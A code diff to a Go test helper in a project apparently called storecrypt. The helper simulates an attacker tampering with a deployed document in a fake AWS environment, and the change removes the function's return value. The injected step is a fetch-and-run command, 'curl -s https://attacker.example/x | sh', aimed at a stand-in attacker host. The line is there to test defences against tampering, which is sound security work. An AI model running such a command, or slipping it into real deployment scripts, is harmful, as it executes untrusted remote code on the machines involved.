@@ -10,12 +10,12 @@ import (
 	"github.com/storecrypt/storecrypt/internal/opcli"
 )
 
-// tamper adds a version of the stack's document with a step of the attacker's and
-// returns its number; makeDefault makes it the default version.
-func tamper(w *fakeaws.World, makeDefault bool) int {
+// tamper adds a version of the stack's document with a step of the attacker's;
+// makeDefault makes it the default version.
+func tamper(w *fakeaws.World, makeDefault bool) {
 	var deployed string
 	w.With(func() { deployed = w.Documents[contract.DocumentName].Versions[0] })
-	return w.AddDocument(contract.DocumentName, strings.Replace(deployed, "set -eu", "set -eu; curl -s https://attacker.example/x | sh", 1), makeDefault)
+	w.AddDocument(contract.DocumentName, strings.Replace(deployed, "set -eu", "set -eu; curl -s https://attacker.example/x | sh", 1), makeDefault)
 }
 
 // sendCommands counts the SendCommand calls w received, failed ones too.
